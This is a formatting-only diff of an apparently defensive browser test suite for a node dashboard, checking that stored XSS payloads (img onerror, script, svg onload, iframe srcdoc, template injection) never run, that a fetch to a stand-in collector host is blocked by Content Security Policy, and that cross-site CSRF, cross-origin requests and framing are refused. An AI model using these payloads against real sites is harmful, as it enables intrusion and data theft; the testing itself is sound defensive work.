@@ -6,13 +6,20 @@ import { fileServer, fixtureNode, token } from './serving.mjs';
 import { hash, world } from './world.mjs';
 
 const attacks = [
-  '<img src=x onerror="globalThis.taken=1">', '<script>globalThis.taken=1</script>', '<svg onload=globalThis.taken=1>',
-  '"><iframe srcdoc="<script>parent.taken=1</script>">', 'javascript:globalThis.taken=1', '{{constructor.constructor("taken=1")()}}',
-  '\u202eexe.fdp', '\u0000\u001b[2J',
+  '<img src=x onerror="globalThis.taken=1">',
+  '<script>globalThis.taken=1</script>',
+  '<svg onload=globalThis.taken=1>',
+  '"><iframe srcdoc="<script>parent.taken=1</script>">',
+  'javascript:globalThis.taken=1',
+  '{{constructor.constructor("taken=1")()}}',
+  '\u202eexe.fdp',
+  '\u0000\u001b[2J',
 ].join(' ');
 let node;
 
-before(async () => { node = await fixtureNode(world({ text: attacks, file: attacks, reason: attacks })); });
+before(async () => {
+  node = await fixtureNode(world({ text: attacks, file: attacks, reason: attacks }));
+});
 after(async () => {
   await quit();
   await node?.stop();
@@ -55,19 +62,28 @@ describe('stored text', () => {
       image.innerHTML = '<img src="data:," onerror="globalThis.taken = 2">';
       document.body.append(image);
       let sent = 'sent';
-      await fetch('https://collector.example/').catch(() => { sent = 'refused'; });
+      await fetch('https://collector.example/').catch(() => {
+        sent = 'refused';
+      });
       await new Promise((done) => setTimeout(done, 100));
       return [globalThis.taken ?? null, sent];
     });
     assert.deepEqual(ran, [null, 'refused']);
-    assert.ok(page.faults.some((fault) => fault.includes('collector.example') && /Content Security Policy/.test(fault)));
+    assert.ok(
+      page.faults.some((fault) => fault.includes('collector.example') && /Content Security Policy/.test(fault)),
+    );
     await close(page);
   });
 });
 
 describe('another page of this browser', () => {
   let foreign;
-  before(async () => { foreign = await fileServer({ '/index.html': '<!doctype html><title>x</title><p id="x">hello</p>', '/dao.json': '{}' }); });
+  before(async () => {
+    foreign = await fileServer({
+      '/index.html': '<!doctype html><title>x</title><p id="x">hello</p>',
+      '/dao.json': '{}',
+    });
+  });
   after(() => foreign.stop());
 
   it('gets nothing from the node and changes nothing, even while its user has the dashboard open', async () => {
@@ -75,21 +91,35 @@ describe('another page of this browser', () => {
     await page.getByRole('heading', { level: 1 }).waitFor();
     const other = await page.context().newPage();
     await other.goto(foreign.url);
-    const got = await other.evaluate(async ([url, action]) => {
-      const attempt = (path, request) => fetch(url + path, request).then((answer) => answer.text(), () => 'refused');
-      const form = document.createElement('form');
-      Object.assign(form, { method: 'post', action: `${url}v1/drain`, target: 'out', enctype: 'text/plain' });
-      const frame = Object.assign(document.createElement('iframe'), { name: 'out' });
-      document.body.append(frame, form);
-      form.submit();
-      await new Promise((done) => { frame.onload = done; });
-      return [
-        await attempt('v1/status', {}), await attempt('dao.json', {}),
-        await attempt('v1/drain', { method: 'POST', credentials: 'include' }),
-        await attempt(`v1/approvals/${action}`, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: '{}' }),
-        await attempt('v1/status', { headers: { Authorization: 'Bearer guessed' } }),
-      ];
-    }, [node.url.endsWith('/') ? node.url : `${node.url}/`, hash('waiting')]);
+    const got = await other.evaluate(
+      async ([url, action]) => {
+        const attempt = (path, request) =>
+          fetch(url + path, request).then(
+            (answer) => answer.text(),
+            () => 'refused',
+          );
+        const form = document.createElement('form');
+        Object.assign(form, { method: 'post', action: `${url}v1/drain`, target: 'out', enctype: 'text/plain' });
+        const frame = Object.assign(document.createElement('iframe'), { name: 'out' });
+        document.body.append(frame, form);
+        form.submit();
+        await new Promise((done) => {
+          frame.onload = done;
+        });
+        return [
+          await attempt('v1/status', {}),
+          await attempt('dao.json', {}),
+          await attempt('v1/drain', { method: 'POST', credentials: 'include' }),
+          await attempt(`v1/approvals/${action}`, {
+            method: 'POST',
+            headers: { 'Content-Type': 'application/json' },
+            body: '{}',
+          }),
+          await attempt('v1/status', { headers: { Authorization: 'Bearer guessed' } }),
+        ];
+      },
+      [node.url.endsWith('/') ? node.url : `${node.url}/`, hash('waiting')],
+    );
     assert.deepEqual(got, ['refused', 'refused', 'refused', 'refused', 'refused']);
     assert.deepEqual(await node.given(), []);
     await close(page);
@@ -101,7 +131,11 @@ describe('another page of this browser', () => {
       document.body.append(Object.assign(document.createElement('iframe'), { src: url, id: 'framed' }));
     }, node.url);
     await assert.doesNotReject(page.waitForFunction(() => document.getElementById('framed') !== null));
-    await page.waitForEvent('console', { predicate: (said) => /frame-ancestors|X-Frame-Options/.test(said.text()), timeout: 10_000 })
+    await page
+      .waitForEvent('console', {
+        predicate: (said) => /frame-ancestors|X-Frame-Options/.test(said.text()),
+        timeout: 10_000,
+      })
       .catch(() => assert.ok(page.faults.some((fault) => /frame-ancestors|X-Frame-Options/.test(fault))));
     assert.equal(await page.frameLocator('#framed').getByRole('heading', { level: 1 }).count(), 0);
     await close(page);
